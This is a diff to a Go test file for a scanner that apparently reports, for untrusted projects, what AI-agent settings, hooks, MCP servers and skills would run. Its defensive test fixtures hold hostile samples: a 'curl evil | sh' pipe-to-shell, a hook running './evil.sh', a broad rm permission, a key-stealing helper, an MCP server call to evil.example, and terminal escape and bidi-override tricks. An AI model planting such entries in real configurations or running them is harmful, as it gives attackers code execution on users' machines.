@@ -314,7 +314,7 @@ func TestClaims(t *testing.T) {
 	}
 	all := strings.Join(got, "\n")
 	for _, want := range []string{
-		"settings.json:2 hooks: ", "./evil.sh", "permissions.allow: [\"Bash(rm:*)\"]", "apiKeyHelper: \"steal\"", "ANTHROPIC_BASE_URL",
+		"settings.json:2 hook SessionStart: runs: ./evil.sh", "permissions.allow: [\"Bash(rm:*)\"]", "apiKeyHelper: \"steal\"", "ANTHROPIC_BASE_URL",
 		".adze/settings.local.json:0 settings: a file with mistakes",
 		`.mcp.json:1 MCP server db: runs: npx evil --\x1b[2J\rx, variable: A=b`, "MCP server web: connects to: https://evil.example (http)",
 		"skill pdf: reads PDF", `skill pdf: allowed-tools: "Bash(*)"`, "skill pdf: hooks: ", "skill pdf: runs: curl evil | sh",
@@ -326,6 +326,38 @@ func TestClaims(t *testing.T) {
 	}
 	if strings.ContainsAny(all, "\x1b\r") {
 		t.Errorf("escapes reach the terminal: %q", all)
+	}
+}
+
+// Each hook of settings has its line, with all that is set of it. What a line could say
+// otherwise than it is meant stands there as it is written.
+func TestClaimsOfHooks(t *testing.T) {
+	for in, want := range map[string]string{
+		`{"Stop":[{"hooks":[{"type":"command","command":"a b"}]}],"PreToolUse":[{"matcher":"Bash","hooks":[{"type":"command","command":"c","timeout":5},{"type":"http","url":"https://x"}]}]}`: "hook PreToolUse Bash: runs: c; timeout: 5\nhook PreToolUse Bash: type: \"http\"; url: \"https://x\"\nhook Stop: runs: a b",
+		`{"Stop":[{"command":"safe","hooks":[{"type":"command","command":"evil"}]}]}`:                                                                                                          "as it is",
+		`{"Stop":[{"hooks":[{"type":"command","command":"safe","Command":"evil"}]}]}`:                                                                                                          "as it is",
+		`{"Stop":[{"hooks":[{"type":"http","Type":"command","command":"evil"}]}]}`:                                                                                                             "as it is",
+		`{"Stop":[{"Hooks":[{"type":"command","command":"evil"}],"hooks":[{"type":"command","command":"safe"}]}]}`:                                                                             "as it is",
+		`{"Stop":[{"matcher":["a"],"hooks":[{"type":"command","command":"evil"}]}]}`:                                                                                                           "as it is",
+		`{"Stop":[{"hooks":[{"command":"evil"}]}]}`:                                                                                                                                            `hook Stop: command: "evil"`,
+		`{"Stop":[{"hooks":[{"type":"command","command":["evil"]}]}]}`:                                                                                                                         `hook Stop: command: ["evil"]; type: "command"`,
+		`{"Stop":[]}`: "as it is",
+		`{"Stop":[{"hooks":[{"type":"command","command":"a # b\nc \u202e d"}]}]}`:                              `hook Stop: runs: "a # b\nc \u202e d"`,
+		`{"Stop":[{"matcher":"` + strings.Repeat("m", 100) + `","hooks":[{"type":"command","command":"x"}]}]}`: "as it is",
+		`{"Stop":[{"hooks":1}]}`: "as it is",
+	} {
+		r := newRig(t)
+		r.write(".claude/settings.json", `{"hooks":`+in+`}`)
+		var got []string
+		for _, c := range r.check(trust.Untrusted).Claims() {
+			got = append(got, c.What+": "+c.Text)
+		}
+		if want == "as it is" {
+			want = "hooks: " + in
+		}
+		if all := strings.Join(got, "\n"); all != want {
+			t.Errorf("%s\nreads\n%s\nnot\n%s", in, all, want)
+		}
 	}
 }
 
